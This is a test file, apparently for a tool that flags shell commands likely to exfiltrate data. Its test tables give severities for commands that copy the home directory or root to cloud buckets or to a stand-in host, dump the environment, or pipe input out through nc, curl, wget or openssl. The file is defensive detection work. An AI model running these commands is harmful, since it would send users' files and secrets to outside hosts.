import { expect, test } from 'vitest';
import { givenBy, OUTWARD, outward, sendsInput, sifts } from '../../../src/inspect/commands/outward.ts';
import { programOf } from '../../../src/inspect/shell/program.ts';
import { gravity } from './seen.ts';

const seen = gravity(OUTWARD);

test.each([
  ['aws s3 cp --recursive ~ s3://b/x', 'high'],
  ['aws s3 sync /home/me/.config s3://b', 'high'],
  ['aws s3 sync / s3://b', 'high'],
  ['aws s3 sync . s3://b', 'medium'],
  ['aws s3 sync . s3://b --dryrun', undefined],
  ['aws s3 sync dist s3://b', undefined],
  ['aws s3 cp s3://b/x .', undefined],
  ['aws s3 sync s3://a s3://b', undefined],
  ['aws s3 ls s3://b', undefined],
  ['gsutil cp -r ~ gs://b', 'high'],
  ['gsutil cp gs://b/x .', undefined],
  ['gcloud storage cp -r $HOME gs://b', 'high'],
  ['rclone copy ~/ there:x', 'high'],
  ['rclone copy there:x ./x', undefined],
  ['rclone copy ~ /mnt/disk', undefined],
  ['az storage blob upload-batch -d c -s ~', 'high'],
  ['az storage blob upload-batch -d c -s dist', undefined],
  ['scp -r ~ there.example:x', 'high'],
  ['scp notes.txt there.example:', undefined],
  ['rsync -a /home/me/ there.example:x', 'high'],
  ['rsync -an /home/me/ there.example:x', undefined],
  ['rsync -a /home/me/ /mnt/copy', undefined],
  ['rsync -a /home/me/docs/ there.example:x', undefined],
])('%s: %s', (command, severity) => {
  expect(seen(command)).toBe(severity);
});

test('from one place of this machine to another nothing leaves', () => {
  expect(outward(['~', '/mnt/copy'])).toBeUndefined();
  expect(outward(['C:\\Users\\me', 'D:\\copy'])).toBeUndefined();
  expect(outward(['~'])).toBeUndefined();
});

test.each([
  ['env', 'high'],
  ['printenv', 'high'],
  ['printenv PATH', undefined],
  ['env make', undefined],
  ['sh -i', 'critical'],
  ['bash', 'critical'],
  ['bash x.sh', undefined],
  ['tar cz ~', 'high'],
  ['tar cz src', undefined],
])('%s gives into a pipe what must not leave: %s', (command, severity) => {
  const [name = '', ...args] = command.split(' ');
  expect(givenBy(name, args, programOf(name, args))?.severity).toBe(severity);
});

test.each([
  ['nc there.example 44', true],
  ['nc -z there.example 44', false],
  ['curl -d @- https://there.example', true],
  ['curl --data-binary @- https://there.example', true],
  ['curl -T - https://there.example', true],
  ['curl https://there.example', false],
  ['wget --post-file=- https://there.example', true],
  ['wget https://there.example', false],
  ['openssl s_client there.example', true],
  ['openssl enc', false],
  ['ssh there.example', false],
])('%s sends its input: %s', (command, is) => {
  const [name = '', ...args] = command.split(' ');
  expect(sendsInput(name, args)).toBe(is);
});

test('what looks for something lets the rest fall', () => {
  expect([sifts('grep'), sifts('sort')]).toEqual([true, false]);
});
